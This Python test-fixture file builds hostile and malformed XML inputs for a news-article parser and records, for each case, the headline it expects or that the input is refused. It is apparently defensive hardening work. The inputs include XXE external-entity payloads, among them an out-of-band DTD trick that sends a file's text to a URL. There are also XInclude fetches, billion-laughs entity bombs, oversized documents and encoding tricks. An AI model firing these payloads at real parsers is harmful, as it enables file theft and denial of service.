"""Hostile and dirty XML, made from a good document of any format.

Each case says what must come of it: the headline that is read (and whether something was mended), or that it is refused.
"""

from __future__ import annotations

import codecs
import gzip
import re
from collections.abc import Callable, Iterator
from functools import cache

from attrs import frozen

from newsmodel import Article, write
from newsmodel.model import Paragraph, Section

HEADLINE, BODY = "The headline of it", "The body of it"
REFUSED = None


@frozen
class Frame:
    """A document of a format in two pieces: what stands before the root, and the root."""

    root: str
    name: str

    def text(
        self,
        headline: str = "x",
        *,
        body: str = "x",
        before: str = "",
        after: str = "",
        attributes: str = "",
        declared: str | None = None,
    ) -> str:
        """The document with other text in it, and with things around its root."""
        root = self.root.replace(HEADLINE, headline).replace(BODY, body)
        if attributes:
            root = root.replace(f"<{self.name}", f"<{self.name} {attributes}", 1)
        declaration = "" if declared is None else f'<?xml version="1.0" encoding="{declared}"?>\n'
        return declaration + before + root + after

    def bytes(self, headline: str = "x", **more: str | None) -> bytes:
        """The same in UTF-8."""
        return self.text(headline, **more).encode()  # type: ignore[arg-type]  # texts all of them

    def doctype(self, inside: str = "", outside: str = "") -> str:
        """A DOCTYPE for this root."""
        return f"<!DOCTYPE {self.name} {outside}" + (f" [{inside}]" if inside else "") + ">\n"


@cache
def frame(name: str) -> Frame:
    """The frame of a format, from what it writes itself."""
    article = Article(
        headlines=[HEADLINE],
        language="en",
        sections=[Section(blocks=[Paragraph(BODY)])],
        id="tag:x.example,2026:1",
    )
    text = write(article, name).decode()
    root = re.sub(r"\A<\?xml.*?\?>\s*", "", re.sub(r"<!DOCTYPE[^>]*>\s*", "", text))
    tag = re.match(r"<([\w:.-]+)", root)
    assert tag
    assert HEADLINE in root
    assert BODY in root
    return Frame(root.rstrip(), tag[1])


@frozen
class Case:
    """A document that ought not to be, and what must come of it: the headline that is read, or `REFUSED`."""

    name: str
    make: Callable[[Frame], bytes]
    headline: str | None
    repaired: bool = False
    heavy: bool = False
    """It is large, or would be: tried under limits of memory and time only."""


def entities(levels: int = 30, width: int = 10) -> str:
    """Entities inside entities."""
    return '<!ENTITY e0 "lol">' + "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * width}">' for level in range(1, levels)
    )


NITF_ID = 'SYSTEM "http://www.nitf.invalid/nitf-3-4.dtd"'
PUBLIC_ID = 'PUBLIC "-//IPTC//DTD NITF 3.4//EN" "http://www.nitf.invalid/nitf-3-4.dtd"'
OF_NITF = '\n<!ENTITY % nitf SYSTEM "http://www.nitf.invalid/nitf.dtd">\n%nitf;\n'

DOCTYPES = [
    Case("a system id", lambda f: f.bytes(before=f.doctype(outside=NITF_ID)), "x"),
    Case("a public id", lambda f: f.bytes(before=f.doctype(outside=PUBLIC_ID)), "x"),
    Case("a public id alone", lambda f: f.bytes(before=f.doctype(outside='PUBLIC "-//IPTC//DTD NITF 3.4//EN"')), "x"),
    Case("a public id with odd characters", lambda f: f.bytes(before=f.doctype(outside='PUBLIC "-//É {x}\\ | “q”" "x.dtd"')), "x"),
    Case("single quotes", lambda f: f.bytes(before=f.doctype(outside="PUBLIC '-//X \"//EN' 'x.dtd'")), "x"),
    Case("identifiers in lines", lambda f: f.bytes(before=f.doctype(outside='PUBLIC\n\t"-//X//EN"\n\t"x.dtd"\n')), "x"),
    Case("public in small letters", lambda f: f.bytes(before=f.doctype(outside='public "-//X//EN" "x.dtd"')), "x"),
    Case("a DOCTYPE in small letters", lambda f: f.bytes(before=f"<!doctype {f.name}>\n"), "x", repaired=True),
    Case("comments before a DOCTYPE", lambda f: f.bytes(before="<!-- <!DOCTYPE a> -->\n<?x <!DOCTYPE b> ?>\n" + f.doctype(outside=NITF_ID), declared="UTF-8"), "x"),
    Case("a DOCTYPE in UTF-16", lambda f: f.text(before=f.doctype('<!ENTITY who "Jo">', NITF_ID), headline="&who;é", declared="UTF-16").encode("utf-16"), "Joé"),
    Case("an internal entity", lambda f: f.bytes("By &who;", before=f.doctype('<!ENTITY who "Jo &#38;#38; Co">')), "By Jo & Co"),
    Case("an internal entity and an external DTD", lambda f: f.bytes("By &who;", before=f.doctype('<!ENTITY who "Jo">', PUBLIC_ID)), "By Jo"),
    Case("an internal entity of HTML's name", lambda f: f.bytes("&nbsp;&eacute;", before=f.doctype('<!ENTITY nbsp "N">', NITF_ID)), "Né", repaired=True),
    Case("entities declared and not used", lambda f: f.bytes(before=f.doctype('<!ENTITY a "b"><!ENTITY logo SYSTEM "logo.gif" NDATA gif><!NOTATION gif SYSTEM "gif"><!ENTITY c SYSTEM "http://x.invalid/c.xml">')), "x"),
    Case("the DTD of NITF taken in", lambda f: f.bytes(before=f.doctype(OF_NITF, 'SYSTEM "NewsML_1.2.dtd"')), "x"),
    Case("the DTD of NITF taken in, and an entity", lambda f: f.bytes("&who;", before=f.doctype(OF_NITF + '<!ENTITY who "Jo">', PUBLIC_ID)), "Jo"),
    Case("a parameter entity that nobody declares", lambda f: f.bytes(before=f.doctype("%more;", NITF_ID)), "x"),
    Case("an internal parameter entity", lambda f: f.bytes("&y;", before=f.doctype("<!ENTITY % m \"<!ENTITY y 'why'>\">%m;")), "why"),
    Case("brackets and quotes inside", lambda f: f.bytes("&a;", before=f.doctype("<!-- ]> ' -->\n<?x ]> ?><!ENTITY b ']>'><!ENTITY a \"'b'\">")), "'b'"),
    Case("a subset of 20 KB", lambda f: f.bytes("&who;", before=f.doctype("<!-- - -->\n" * 2_000 + '<!ENTITY who "Jo">', NITF_ID), declared="UTF-8"), "Jo"),
    Case("default attributes", lambda f: f.bytes(before=f.doctype("<!ELEMENT zz ANY><!ATTLIST zz a CDATA 'b'>")), "x"),
    Case("a reference inside an entity to another", lambda f: f.bytes("&a;", before=f.doctype('<!ENTITY b "&#233;"><!ENTITY a "&b;&b;">')), "éé"),
    Case("a DOCTYPE that never ends", lambda f: f.bytes(before=f"<!DOCTYPE {f.name} ["), REFUSED),
    Case("a DOCTYPE of another root", lambda f: f.bytes(before="<!DOCTYPE zz SYSTEM 'zz.dtd'>"), "x"),
    Case("two DOCTYPEs", lambda f: f.bytes(before=f.doctype() * 2), REFUSED),
]  # fmt: skip


def files(secret: str) -> list[Case]:
    """What would be read if somebody let it; ``secret`` is the URL of a file, or a server that must hear nothing."""
    declared = f'<!ENTITY x SYSTEM "{secret}">'
    return [
        Case("an external entity", lambda f: f.bytes("a&x;b", before=f.doctype(declared)), REFUSED),
        Case("an external entity in the body", lambda f: f.bytes(body="a&x;b", before=f.doctype(declared)), REFUSED),
        Case("an external entity in an attribute", lambda f: f.bytes(attributes='zz="&x;"', before=f.doctype(declared)), REFUSED),
        Case("an external entity in an entity", lambda f: f.bytes("&y;", before=f.doctype(declared + '<!ENTITY y "a&x;b">')), REFUSED),
        Case("a public external entity", lambda f: f.bytes("a&x;b", before=f.doctype(f'<!ENTITY x PUBLIC "-//X" "{secret}">')), REFUSED),
        Case("an unparsed entity", lambda f: f.bytes("a&x;b", before=f.doctype(f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "{secret}" NDATA n>')), REFUSED),
        Case("an entity of an external DTD", lambda f: f.bytes("a&x;b", before=f.doctype(outside=f'SYSTEM "{secret}"')), REFUSED),
        Case("an external DTD", lambda f: f.bytes(before=f.doctype(outside=f'SYSTEM "{secret}"')), "x"),
        Case("an external DTD, not standalone", lambda f: b'<?xml version="1.0" standalone="no"?>' + f.bytes(before=f.doctype(outside=f'SYSTEM "{secret}"')), "x"),
        Case("an external parameter entity", lambda f: f.bytes(before=f.doctype(f'<!ENTITY % m SYSTEM "{secret}">%m;')), "x"),
        Case("an entity of an external parameter entity", lambda f: f.bytes("a&x;b", before=f.doctype(f'<!ENTITY % m SYSTEM "{secret}">%m;')), REFUSED),
        Case("a file's text sent elsewhere", lambda f: f.bytes("&s;", before=f.doctype(f'<!ENTITY % f SYSTEM "{secret}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1:1/%f;\'>">%e;%s;')), REFUSED),
        Case("an external entity in UTF-16", lambda f: f.text("a&x;b", before=f.doctype(declared)).encode("utf-16"), REFUSED),
        Case("an external entity in UTF-16 without a mark", lambda f: f.text("a&x;b", before=f.doctype(declared)).encode("utf-16-be"), REFUSED),
        Case("XInclude", lambda f: f.bytes(f'a<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>b'), "ab"),
        Case("XInclude in the body", lambda f: f.bytes(body=f'a<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}"/>'), "x"),
        Case("a stylesheet", lambda f: f.bytes(before=f'<?xml-stylesheet type="text/xsl" href="{secret}"?>\n', declared="UTF-8"), "x"),
        Case("a schema's place", lambda f: f.bytes(attributes=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {secret}"'), "x"),
        Case("xml:base", lambda f: f.bytes(attributes=f'xml:base="{secret}"'), "x"),
    ]  # fmt: skip


BOMBS = [
    Case("entities inside entities", lambda f: f.bytes("&e29;", before=f.doctype(entities())), REFUSED),
    Case("entities inside entities, ten levels", lambda f: f.bytes("&e9;", before=f.doctype(entities(10))), REFUSED),
    Case("entities inside entities, in an attribute", lambda f: f.bytes(attributes='zz="&e9;"', before=f.doctype(entities(10))), REFUSED),
    Case("a long entity many times", lambda f: f.bytes("&a;" * 50_000, before=f.doctype(f'<!ENTITY a "{"a" * 50_000}">')), REFUSED),
    Case("a long entity many times, in attributes", lambda f: f.bytes("<zz a='&a;'/>" * 50_000, before=f.doctype(f'<!ENTITY a "{"a" * 50_000}">')), REFUSED),
    Case("an entity inside itself", lambda f: f.bytes("&a;", before=f.doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">')), REFUSED),
    Case("parameter entities inside parameter entities", lambda f: f.bytes("&x;", before=f.doctype('<!ENTITY % a0 "<!--lol-->">' + "".join(f'<!ENTITY % a{n} "{f"%a{n - 1};" * 10}">' for n in range(1, 20)) + "%a19;")), REFUSED),
    Case("a long parameter entity many times", lambda f: f.bytes("&x;", before=f.doctype(f'<!ENTITY % a "<!--{"a" * 50_000}-->">' + "%a;" * 50_000)), REFUSED),
    Case("default attributes that are long", lambda f: f.bytes("<zz/>" * 50_000, before=f.doctype(f'<!ATTLIST zz a CDATA "{"a" * 50_000}">')), REFUSED),
    Case("default attributes that are many", lambda f: f.bytes("<zz/>" * 50_000, before=f.doctype("<!ATTLIST zz " + " ".join(f"a{n} CDATA 'x'" for n in range(250)) + ">")), REFUSED),
    Case("elements out of entities", lambda f: f.bytes("&e6;", before=f.doctype(entities(7).replace('"lol"', '"<zz/>"'))), REFUSED),
    Case("a namespace out of an entity", lambda f: f.bytes("<zz xmlns='&a;'>" + "<b/>" * 50_000 + "</zz>", before=f.doctype(f'<!ENTITY a "{"a" * 900_000}">')), REFUSED),
    Case("a namespace out of a default", lambda f: f.bytes("<zz>" + "<b/>" * 50_000 + "</zz>", before=f.doctype(f'<!ATTLIST zz xmlns CDATA "{"a" * 900_000}">')), REFUSED),
]  # fmt: skip

MB = 2**20
LARGE = [
    Case("100,000 attributes", lambda f: f.bytes(attributes=" ".join(f"a{n}='x'" for n in range(100_000))), REFUSED),
    Case("100,000 attributes in the body", lambda f: f.bytes(body="<p " + " ".join(f"a{n}='x'" for n in range(100_000)) + ">x</p>"), REFUSED),
    Case("many elements with many attributes", lambda f: f.bytes(body=("<p " + " ".join(f"a{n}='x'" for n in range(1_000)) + ">x</p>") * 500), REFUSED),
    Case("the same attribute twice", lambda f: f.bytes(body='<p a="1" a="2">x</p>'), REFUSED),
    Case("deep nesting", lambda f: f.bytes(body="<div>" * 10_000 + "</div>" * 10_000), REFUSED),
    Case("deep nesting, never closed", lambda f: f.bytes(body="<div>" * 100_000), REFUSED),
    Case("deep nesting of unknown elements", lambda f: f.bytes("<a>" * 100_000 + "</a>" * 100_000), REFUSED),
    Case("deep nesting beside a long text", lambda f: f.bytes("<a>" * 1_000 + "x" * 11_000_000 + "</a>" * 1_000), REFUSED),
    Case("namespaces by the thousand on an element", lambda f: f.bytes(attributes=" ".join(f"xmlns:a{n}='urn:a{n}'" for n in range(5_000))), REFUSED),
    Case("hundreds of namespaces on an element", lambda f: f.bytes(attributes=" ".join(f"xmlns:a{n}='urn:a{n}'" for n in range(900))), "x"),
    Case("a long namespace", lambda f: f.bytes("<zz xmlns='urn:" + "a" * MB + "'>" + "<b/>" * 50_000 + "</zz>"), REFUSED),
    Case("a long name", lambda f: f.bytes("<" + "a" * 40_000 + "/>"), REFUSED),
    Case("a longer name", lambda f: f.bytes("<" + "a" * 100_000 + "/>"), REFUSED),
    Case("a long name of an attribute", lambda f: f.bytes(attributes="a" * 40_000 + "='x'"), REFUSED),
    Case("a long name that is never closed", lambda f: f.bytes("<" + "a" * 40_000 + "><b>"), REFUSED),
    Case("a text beyond the 10 MB of libxml2", lambda f: f.bytes("x" * 11 * MB), "x" * 11 * MB),
    Case("a long value", lambda f: f.bytes(attributes=f"zz='{'x' * 5 * MB}'"), "x"),
    Case("a long comment", lambda f: f.bytes(before=f"<!--{'x' * 5 * MB}-->"), "x"),
    Case("a long processing instruction", lambda f: f.bytes(before=f"<?x {'x' * 5 * MB}?>"), "x"),
    Case("many comments", lambda f: f.bytes("x" + "<!---->" * 100_000), "x"),
    Case("many processing instructions", lambda f: f.bytes("x" + "<?x?>" * 100_000), "x"),
    Case("many pieces of CDATA", lambda f: f.bytes("<![CDATA[x]]>" * 10_000), "x" * 10_000),
    Case("nothing but elements", lambda f: f.bytes("<a/>" * 12_500_000), REFUSED),
    Case("comments that never end", lambda f: f.bytes("<!--" * 1_000_000), REFUSED),
    Case("CDATA that never ends", lambda f: f.bytes("<![CDATA[" * 1_000_000), REFUSED),
    Case("ampersands", lambda f: f.bytes("x" + "&" * MB), "x" + "&" * MB, repaired=True),
    Case("one number of a million digits", lambda f: f.bytes(f"x&#{'9' * MB};"), "x", repaired=True),
    Case("control characters by the million", lambda f: f.bytes("x" + "\x01" * MB), "x", repaired=True),
    Case("text before the document without end", lambda _: b"x" * 50 * MB, REFUSED),
    Case("NULs", lambda _: bytes(50 * MB), REFUSED),
]  # fmt: skip
LARGE = [Case(c.name, c.make, c.headline, c.repaired, heavy=True) for c in LARGE]


def text_of(size: int, frame: Frame, into: str) -> bytes:
    """A document with this much text, in one node or in many."""
    if into == "one":
        return frame.bytes(body="word " * (size // 5))
    return frame.bytes(body="x" + "</p><p>".join(["word " * 400] * (size // 2_000)))


def coded(text: str, encoding: str, declared: str | None = None) -> Callable[[Frame], bytes]:
    """A document in an encoding, which it says or does not say."""
    return lambda f: f.text(text, declared=declared).encode(encoding)


RUSSIAN, ARABIC, FRENCH = "Президент России встретился", "قال الرئيس الأمريكي اليوم", "L’été à « Nîmes »"
ENCODINGS = [
    Case("UTF-8 with a mark", coded(RUSSIAN, "utf-8-sig"), RUSSIAN),
    Case("UTF-8 with a mark and a declaration", coded(RUSSIAN, "utf-8-sig", "UTF-8"), RUSSIAN),
    Case("UTF-16", coded(RUSSIAN, "utf-16", "UTF-16"), RUSSIAN),
    Case("UTF-16, big end first", lambda f: codecs.BOM_UTF16_BE + f.text(ARABIC).encode("utf-16-be"), ARABIC),
    Case("UTF-16 without a mark", coded(ARABIC, "utf-16-le", "UTF-16"), ARABIC),
    Case("UTF-16 without a mark, big end first", coded(ARABIC, "utf-16-be", "UTF-16"), ARABIC),
    Case("UTF-16 without mark and declaration", coded(ARABIC, "utf-16-le"), ARABIC),
    Case("UTF-16 that says UTF-8", coded(ARABIC, "utf-16", "UTF-8"), ARABIC, repaired=True),
    Case("UTF-16 and half a character", lambda f: f.text(RUSSIAN, declared="UTF-16").encode("utf-16") + b"\n", RUSSIAN, repaired=True),
    Case("UTF-16 with half a pair", lambda f: f.text("a\ud800b").encode("utf-16-le", "surrogatepass"), "a\ufffdb", repaired=True),
    Case("UTF-32", coded(RUSSIAN, "utf-32", "UTF-32"), RUSSIAN),
    Case("UTF-32 without a mark", coded(RUSSIAN, "utf-32-be"), RUSSIAN),
    Case("ISO-8859-1 that says so", coded("L'été", "iso-8859-1", "ISO-8859-1"), "L'été"),
    Case("ISO-8859-15 that says so", coded("5 €", "iso-8859-15", "iso-8859-15"), "5 €"),
    Case("windows-1252 that says so", coded(FRENCH, "cp1252", "windows-1252"), FRENCH),
    Case("windows-1252 that says ISO-8859-1", coded(FRENCH, "cp1252", "ISO-8859-1"), FRENCH, repaired=True),
    Case("windows-1256 that says so", coded(ARABIC, "cp1256", "windows-1256"), ARABIC),
    Case("windows-1251 that says so", coded(RUSSIAN, "cp1251", "windows-1251"), RUSSIAN),
    Case("windows-1251 by Python's name", coded(RUSSIAN, "cp1251", "cp1251"), RUSSIAN),
    Case("KOI8-R that says so", coded(RUSSIAN, "koi8-r", "KOI8-R"), RUSSIAN),
    Case("ISO-8859-6 that says so", coded(ARABIC, "iso-8859-6", "ISO-8859-6"), ARABIC),
    Case("GBK that says so", coded("新华社北京", "gbk", "GBK"), "新华社北京"),
    Case("Shift_JIS that says so", coded("日本語の記事", "shift_jis", "Shift_JIS"), "日本語の記事"),
    Case("EUC-KR that says so", coded("서울", "euc-kr", "EUC-KR"), "서울"),
    Case("ISO-2022-JP that says so", coded("日本語", "iso-2022-jp", "ISO-2022-JP"), "日本語"),
    Case("windows-1252 that says nothing", coded(FRENCH, "cp1252"), FRENCH, repaired=True),
    Case("windows-1252 that says UTF-8", coded(FRENCH, "cp1252", "UTF-8"), FRENCH, repaired=True),
    Case("one byte of Latin-1", coded("café", "iso-8859-1", "UTF-8"), "café", repaired=True),
    Case("two letters of Latin-1 in a row", coded("créée", "iso-8859-1", "UTF-8"), "créée", repaired=True),
    Case("windows-1256 that says UTF-8", coded(ARABIC, "cp1256", "UTF-8"), ARABIC, repaired=True),
    Case("windows-1256 that says nothing", coded(ARABIC, "cp1256"), ARABIC, repaired=True),
    Case("windows-1251 that says UTF-8", coded(RUSSIAN, "cp1251", "UTF-8"), RUSSIAN, repaired=True),
    Case("KOI8-R that says nothing", coded(RUSSIAN, "koi8-r"), RUSSIAN, repaired=True),
    Case("windows-1251 that says ISO-8859-1", coded(RUSSIAN, "cp1251", "ISO-8859-1"), RUSSIAN, repaired=True),
    Case("windows-1256 that says ISO-8859-1", coded(ARABIC, "cp1256", "ISO-8859-1"), ARABIC, repaired=True),
    Case("UTF-8 that says windows-1256", coded(ARABIC, "utf-8", "windows-1256"), ARABIC, repaired=True),
    Case("UTF-8 that says windows-1251", coded(RUSSIAN, "utf-8", "windows-1251"), RUSSIAN, repaired=True),
    Case("UTF-8 that says ISO-8859-1", coded("“café”", "utf-8", "ISO-8859-1"), "“café”", repaired=True),
    Case("UTF-8 that says US-ASCII", coded("“café”", "utf-8", "US-ASCII"), "“café”", repaired=True),
    Case("UTF-8 that says UTF-16", coded("“café”", "utf-8", "UTF-16"), "“café”", repaired=True),
    Case("UTF-8 that says GBK", coded("新华社北京", "utf-8", "GBK"), "新华社北京", repaired=True),
    Case("UTF-8 with a mark that says windows-1251", coded(RUSSIAN, "utf-8-sig", "windows-1251"), RUSSIAN, repaired=True),
    Case("UTF-8 in an encoding that nobody knows", coded("“café”", "utf-8", "x-klingon"), "“café”", repaired=True),
    Case("ASCII in an encoding that nobody knows", coded("cafe", "utf-8", "x-klingon"), "cafe", repaired=True),
    Case("bytes in an encoding that nobody knows", coded("café", "cp1252", "x-klingon"), REFUSED),
    Case("UTF-7", coded("é", "utf-7", "UTF-7"), REFUSED),
    Case("UTF-7 that hides a tag", lambda f: f.bytes("+ADw-b+AD4-", declared="UTF-7"), REFUSED),
    Case("no encoding at all", lambda f: f.bytes(declared="zlib"), REFUSED),
    Case("an encoding of names", lambda f: f.bytes(declared="idna"), REFUSED),
    Case("escapes as an encoding", lambda f: f.bytes(declared="unicode_escape"), REFUSED),
    Case("EBCDIC", coded("x", "cp037", "ebcdic-cp-us"), REFUSED),
    Case("a byte pasted into UTF-8", lambda f: f.bytes(RUSSIAN + " caf?").replace(b"caf?", b"caf\xe9"), RUSSIAN + " café", repaired=True),
    Case("a character cut in two", lambda f: f.bytes(RUSSIAN + "\u0439|").replace("й|".encode(), b"\xd0 |"), RUSSIAN + "\ufffd |", repaired=True),
    Case("surrogates in UTF-8", lambda f: f.bytes("a?b").replace(b"?b", b"\xed\xa0\xbd\xed\xb8\x80b"), "a😀b", repaired=True),
    Case("a lone surrogate in UTF-8", lambda f: f.bytes("a?b").replace(b"?b", b"\xed\xa0\xbdb"), "a\ufffdb", repaired=True),
    Case("bytes of nothing", lambda f: f.bytes("a~b").replace(b"~", bytes(range(0x80, 0x100)) * 20), REFUSED),
]  # fmt: skip

CHARACTERS = [
    Case("a NUL in the text", lambda f: f.bytes("a\0b"), "ab", repaired=True),
    Case("a NUL before everything", lambda f: b"\0" + f.bytes(), "x", repaired=True),
    Case("NULs behind everything", lambda f: f.bytes(after="\0" * 512), "x", repaired=True),
    Case("a NUL in a tag", lambda f: f.bytes("a<b\0>x</b>"), "ax", repaired=True),
    Case("a control character", lambda f: f.bytes("a\x08b"), "ab", repaired=True),
    Case("a vertical tab", lambda f: f.bytes("a\x0bb"), "a b", repaired=True),
    Case("a form feed", lambda f: f.bytes("a\x0cb"), "a b", repaired=True),
    Case("control characters of wires", lambda f: b"\x01\x16\x16" + f.bytes("a\x1bb") + b"\x03\x04", "ab", repaired=True),
    Case("characters that are none", lambda f: f.bytes("a\ufffe\uffffb"), "ab", repaired=True),
    Case("a reference to NUL", lambda f: f.bytes("a&#0;b"), "ab", repaired=True),
    Case("a reference to a vertical tab", lambda f: f.bytes("a&#11;b"), "a b", repaired=True),
    Case("a reference to a control character", lambda f: f.bytes("a&#x8;b"), "ab", repaired=True),
    Case("a reference to a surrogate", lambda f: f.bytes("a&#xD800;b"), "ab", repaired=True),
    Case("references to a pair", lambda f: f.bytes("a&#55357;&#56832;b"), "a😀b", repaired=True),
    Case("a reference beyond Unicode", lambda f: f.bytes("a&#x110000;b"), "ab", repaired=True),
    Case("a reference to nothing", lambda f: f.bytes("a&#;b"), "a&#;b", repaired=True),
    Case("what looks like a reference in CDATA", lambda f: f.bytes("<![CDATA[a&#8;b&nbsp;c & d]]>\x08"), "a&#8;b&nbsp;c & d", repaired=True),
    Case("entities of HTML", lambda f: f.bytes("a&nbsp;&eacute;&mdash;b"), "a\u00a0é—b", repaired=True),
    Case("entities of HTML in an attribute", lambda f: f.bytes(attributes='zz="&eacute;"'), "x", repaired=True),
    Case("an entity that nobody knows", lambda f: f.bytes("a&agencylogo;b"), REFUSED),
    Case("ampersands", lambda f: f.bytes("AT&T & Jo&Co"), "AT&T & Jo&Co", repaired=True),
    Case("ampersands of an address", lambda f: f.bytes(attributes='zz="?a=1&b=2&copy=3"'), "x", repaired=True),
    Case("CDATA", lambda f: f.bytes("<![CDATA[a <b> & c]]>"), "a <b> & c"),
    Case("comments and instructions in the text", lambda f: f.bytes("a<!-- c --><?p i?>b"), "ab"),
    Case("XML 1.1", lambda f: b'<?xml version="1.1"?>' + f.bytes(), "x"),
    Case("XML 2.0", lambda f: b'<?xml version="2.0"?>' + f.bytes(), REFUSED),
]  # fmt: skip

EDGES = [
    Case("nothing", lambda _: b"", REFUSED),
    Case("white space", lambda _: b" \n\t ", REFUSED),
    Case("a mark and nothing", lambda _: codecs.BOM_UTF8, REFUSED),
    Case("a declaration and nothing", lambda _: b'<?xml version="1.0"?>', REFUSED),
    Case("a comment and nothing", lambda _: b"<!-- x -->", REFUSED),
    Case("half a document", lambda f: f.bytes()[: len(f.root) // 2], REFUSED),
    Case("a document without its last tag", lambda f: f.bytes()[: f.bytes().rindex(b"</")], REFUSED),
    Case("a document without its last sign", lambda f: f.bytes()[:-1], REFUSED),
    Case("half a document in UTF-16", lambda f: f.text().encode("utf-16")[: len(f.root)], REFUSED),
    Case("HTML", lambda _: b"<!DOCTYPE html><html><head><title>x</title><body><p>x<br><p>y</html>", REFUSED),
    Case("well-formed HTML", lambda _: b"<html><body><p>x</p></body></html>", REFUSED),
    Case("JSON", lambda _: b'{"a": 1}', REFUSED),
    Case("gzip", lambda f: gzip.compress(f.bytes()), REFUSED),
    Case("two roots", lambda f: f.bytes() + f.bytes(), REFUSED),
    Case("two roots of two kinds", lambda f: f.bytes(after="<other/>"), REFUSED),
    Case("text behind the document", lambda f: f.bytes(after="\nEND OF MESSAGE\n"), "x", repaired=True),
    Case("white space behind the document", lambda f: f.bytes(after=" \n\n"), "x"),
    Case("a comment behind the document", lambda f: f.bytes(after="\n<!-- x --><?x?>\n"), "x"),
    Case("blank lines before the declaration", lambda f: b"\n\r\n " + f.bytes(declared="UTF-8"), "x", repaired=True),
    Case("blank lines before the root", lambda f: b"\n\n" + f.bytes(), "x"),
    Case("blank lines before a declaration of Latin-1", lambda f: b"\n" + f.text("é", declared="iso-8859-1").encode("latin-1"), "é", repaired=True),
    Case("a mark and white space", lambda f: codecs.BOM_UTF8 + b" " + f.bytes(declared="UTF-8"), "x", repaired=True),
    Case("text before the document", lambda f: b"ZCZC 123\r\n\r\n" + f.bytes(declared="UTF-8"), "x", repaired=True),
    Case("text before a DOCTYPE", lambda f: b"ZCZC 123\n" + f.bytes("&a;", before=f.doctype('<!ENTITY a "b">', NITF_ID), declared="UTF-8"), "b", repaired=True),
    Case("two declarations", lambda f: b'<?xml version="1.0"?>' + f.bytes(declared="UTF-8"), REFUSED),
    Case("a tag that is not closed", lambda f: f.bytes("a<b>c"), REFUSED),
    Case("tags that cross", lambda f: f.bytes("<a><b></a></b>"), REFUSED),
    Case("an attribute without quotes", lambda f: f.bytes(attributes="zz=1"), REFUSED),
    Case("a prefix that nobody declares", lambda f: f.bytes("<x:p>x</x:p>"), REFUSED),
    Case("a less-than sign in the text", lambda f: f.bytes("1 < 2"), REFUSED),
    Case("the end of CDATA in the text", lambda f: f.bytes("a]]>b"), REFUSED),
]  # fmt: skip


def cases(secret: str) -> Iterator[Case]:
    """All of them."""
    yield from (*DOCTYPES, *files(secret), *BOMBS, *LARGE, *ENCODINGS, *CHARACTERS, *EDGES)
